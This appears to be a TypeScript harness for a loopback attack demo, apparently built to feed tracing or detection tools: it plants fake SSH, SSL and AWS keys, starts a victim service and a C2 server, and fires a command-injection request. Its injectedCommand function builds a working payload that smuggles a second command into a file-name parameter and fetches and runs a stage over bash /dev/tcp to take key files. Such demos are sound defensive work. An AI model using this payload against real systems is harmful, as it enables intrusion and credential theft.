/**
 * The demo attack, end to end on loopback: start the victim web service and the C2 server, plant fake keys
 * in a temporary folder, fire the command-injection request, wait until the payload has beaconed and
 * uploaded, collect what the C2 received, and tear everything down.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createInterface } from 'node:readline';
import { fileURLToPath } from 'node:url';

const HERE = fileURLToPath(new URL('.', import.meta.url));

/** Options of {@link runScenario}. */
export interface ScenarioOptions {
  /** Beacons the payload sends (default 5). */
  beacons?: number;
  /** Seconds between beacons (default 1). */
  intervalSec?: number;
  /** Filler bytes of the final upload (default 1 MiB). */
  uploadBytes?: number;
  /**
   * A command the victim and C2 processes run under, e.g. `['strace', '-f', '-o', 'trace.txt']` or a
   * recorder's launcher: each process is started as `[...wrap, node, program.mjs, 0]`.
   */
  wrap?: string[];
  /** Milliseconds to wait between the servers being up and the attack (time for a recorder to attach). */
  holdMs?: number;
  /** Called as the scenario goes: servers started (with pids), attack sent, C2 report complete. */
  onEvent?: (event: ScenarioEvent) => void;
  /** Give up after this many milliseconds (default: the beaconing time + 30 s). */
  timeoutMs?: number;
  /** Keep the folder of planted keys (default: removed). */
  keepLoot?: boolean;
}

/** A server of the scenario, as it reported itself. */
export interface ServerInfo {
  role: 'victim' | 'c2';
  /** The server's own (node) pid, also under a `wrap` command. */
  pid: number;
  port: number;
}

export type ScenarioEvent =
  | { event: 'started'; victim: ServerInfo; c2: ServerInfo; lootDir: string }
  | { event: 'attack'; url: string }
  | { event: 'done'; report: C2Report };

/** What the C2 received (its `GET /report`). */
export interface C2Report {
  stageDownloads: number;
  beacons: { atMs: number; id: string; seq: number; found: number }[];
  uploads: {
    atMs: number;
    bytes: number;
    sha256: string;
    files: { path: string; size: number; sha256: string }[];
    fillerBytes: number;
    malformed?: string;
  }[];
}

/** The result of {@link runScenario}. */
export interface ScenarioResult {
  victim: ServerInfo;
  c2: ServerInfo;
  lootDir: string;
  /** Every planted file, and whether the payload is meant to take it (key-like name). */
  planted: { path: string; sha256: string; keyLike: boolean }[];
  /** The victim's answer to the injection request. */
  response: { status: number; body: string };
  report: C2Report;
  durationMs: number;
}

/** Errors of the scenario. */
export class ScenarioError extends Error {
  constructor(
    readonly code: 'START_FAILED' | 'ATTACK_FAILED' | 'TIMEOUT' | 'BAD_OPTION',
    message: string,
  ) {
    super(message);
    this.name = 'ScenarioError';
  }
}

const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

/** Fake secrets and decoys (relative path, key-like or not). */
const LOOT: [string, boolean][] = [
  ['home/dev/.ssh/id_rsa', true],
  ['home/dev/.ssh/id_rsa.pub', true],
  ['home/dev/.ssh/known_hosts', false],
  ['home/dev/notes.txt', false],
  ['etc/ssl/private/server.key', true],
  ['srv/app/config/aws.pem', true],
  ['srv/app/config/settings.json', false],
];

async function plant(dir: string): Promise<ScenarioResult['planted']> {
  const planted: ScenarioResult['planted'] = [];
  for (const [rel, keyLike] of LOOT) {
    const path = join(dir, rel);
    await mkdir(dirname(path), { recursive: true });
    const text = keyLike
      ? `-----BEGIN SYSRAY DEMO KEY-----\n(not a real key: sysray attack-scenario)\n${randomBytes(600).toString('base64')}\n-----END SYSRAY DEMO KEY-----\n`
      : `sysray attack-scenario decoy ${rel}\n`;
    const bytes = Buffer.from(text);
    await writeFile(path, bytes, { mode: 0o600 });
    planted.push({ path, sha256: sha256(bytes), keyLike });
  }
  return planted;
}

/**
 * Starts a server program in its own process group (the child is added to `children` at once, so it is
 * stopped even if starting fails); resolves with what it prints once listening.
 */
async function startServer(program: string, wrap: string[], children: ChildProcess[]): Promise<ServerInfo> {
  const argv = [...wrap, process.execPath, program, '0'];
  const child = spawn(argv[0]!, argv.slice(1), {
    cwd: HERE,
    detached: true,
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  children.push(child);
  const lines = createInterface({ input: child.stdout! });
  const failed = once(child, 'exit').then(([code]) => {
    throw new ScenarioError('START_FAILED', `${program} exited (${String(code)}) before listening`);
  });
  const listening = (async () => {
    for await (const line of lines) {
      try {
        const info = JSON.parse(line) as ServerInfo;
        if (typeof info.pid === 'number' && typeof info.port === 'number') return info;
      } catch {
        // a wrapper's own output: not ours
      }
    }
    throw new ScenarioError('START_FAILED', `${program} closed its output before listening`);
  })();
  failed.catch(() => {});
  return Promise.race([listening, failed]);
}

/** Pids of the live processes of process group `pgid`, from /proc (Linux). */
async function groupMembers(pgid: number): Promise<number[]> {
  const members: number[] = [];
  for (const entry of await readdir('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    const stat = await readFile(`/proc/${entry}/stat`, 'utf8').catch(() => '');
    // pid (comm) state ppid pgrp …: comm may hold spaces and parentheses, so split after the last ')'
    const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
    if (Number(fields[2]) === pgid && fields[0] !== 'Z') members.push(Number(entry));
  }
  return members;
}

/** Waits (at most `ms`) until the payload processes in the victim's group have finished. */
async function payloadFinished(group: number, victimPid: number, ms: number): Promise<void> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    const others = (await groupMembers(group)).filter((p) => p !== victimPid && p !== group);
    if (others.length === 0) return;
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** Ends a process group the scenario started: SIGTERM, then SIGKILL after 2 s. */
async function stop(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null || child.signalCode !== null || child.pid === undefined) return;
  const exited = once(child, 'exit');
  const signal = (s: NodeJS.Signals) => {
    try {
      process.kill(-child.pid!, s); // the group: the server and anything it spawned (the payload)
    } catch {
      // already gone
    }
  };
  signal('SIGTERM');
  const timer = setTimeout(() => signal('SIGKILL'), 2000);
  await exited;
  clearTimeout(timer);
}

function get(url: string, timeoutMs: number): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(url, { timeout: timeoutMs }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }),
      );
      res.on('error', reject);
    });
    req.on('timeout', () => req.destroy(new Error(`no answer from ${url} in ${timeoutMs} ms`)));
    req.on('error', reject);
    req.end();
  });
}

/**
 * The command the attacker injects: in the background, fetch the stage from the C2 over bash's /dev/tcp,
 * save it to a temporary file and run it with the scenario's settings.
 */
export function injectedCommand(
  c2Port: number,
  lootDir: string,
  beacons: number,
  interval: number,
  uploadBytes: number,
): string {
  const fetchAndRun = [
    's=$(mktemp)',
    `exec 3<>/dev/tcp/127.0.0.1/${c2Port}`,
    'printf "GET /stage.sh HTTP/1.0\\r\\nHost: 127.0.0.1\\r\\n\\r\\n" >&3',
    'sed "1,/^\\r$/d" <&3 >"$s"',
    'exec 3<&-',
    'bash "$s"',
    'rm -f "$s"',
  ].join('; ');
  const env = `C2_PORT=${c2Port} LOOT_DIR='${lootDir}' BEACONS=${beacons} INTERVAL=${interval} UPLOAD_BYTES=${uploadBytes}`;
  return `report.pdf; (${env} bash -c '${fetchAndRun}') </dev/null >/dev/null 2>&1 &`;
}

function positiveInt(name: string, v: number): number {
  if (!Number.isInteger(v) || v < 0)
    throw new ScenarioError('BAD_OPTION', `${name} must be an integer >= 0, got ${v}`);
  return v;
}

/**
 * Runs the scenario once and tears it down (also on failure).
 * @throws ScenarioError `START_FAILED`, `ATTACK_FAILED`, `TIMEOUT` or `BAD_OPTION`.
 */
export async function runScenario(options: ScenarioOptions = {}): Promise<ScenarioResult> {
  const beacons = positiveInt('beacons', options.beacons ?? 5);
  const interval = options.intervalSec ?? 1;
  if (!(interval >= 0 && interval <= 3600))
    throw new ScenarioError('BAD_OPTION', `intervalSec out of range: ${interval}`);
  const uploadBytes = positiveInt('uploadBytes', options.uploadBytes ?? 1 << 20);
  const holdMs = positiveInt('holdMs', options.holdMs ?? 0);
  const timeoutMs = options.timeoutMs ?? holdMs + beacons * interval * 1000 + 30_000;
  const begin = Date.now();
  const lootDir = await mkdtemp(join(tmpdir(), 'sysray-loot-'));
  const children: ChildProcess[] = [];
  try {
    const planted = await plant(lootDir);
    const [victim, c2] = await Promise.all([
      startServer('victim-server.mjs', options.wrap ?? [], children),
      startServer('c2-server.mjs', options.wrap ?? [], children),
    ]);
    options.onEvent?.({ event: 'started', victim, c2, lootDir });
    if (holdMs > 0) await new Promise((r) => setTimeout(r, holdMs));

    const payload = injectedCommand(c2.port, lootDir, beacons, interval, uploadBytes);
    const url = `http://127.0.0.1:${victim.port}/api/size?name=${encodeURIComponent(payload)}`;
    options.onEvent?.({ event: 'attack', url });
    const response = await get(url, 15_000).catch((error: unknown) => {
      throw new ScenarioError('ATTACK_FAILED', `the injection request failed: ${(error as Error).message}`);
    });

    const reportUrl = `http://127.0.0.1:${c2.port}/report`;
    let report: C2Report;
    for (;;) {
      report = JSON.parse((await get(reportUrl, 5000)).body) as C2Report;
      if (report.uploads.length > 0) break;
      if (Date.now() - begin > timeoutMs)
        throw new ScenarioError(
          'TIMEOUT',
          `no upload after ${timeoutMs} ms (stage downloads ${report.stageDownloads}, beacons ${report.beacons.length})`,
        );
      await new Promise((r) => setTimeout(r, 100));
    }
    // The upload is the payload's last step: let it clean up its work files before the teardown.
    await payloadFinished(children[0]!.pid!, victim.pid, 3000);
    options.onEvent?.({ event: 'done', report });
    return {
      victim: victim,
      c2: c2,
      lootDir,
      planted,
      response,
      report,
      durationMs: Date.now() - begin,
    };
  } finally {
    await Promise.all(children.map(stop));
    if (!options.keepLoot) await rm(lootDir, { recursive: true, force: true });
  }
}
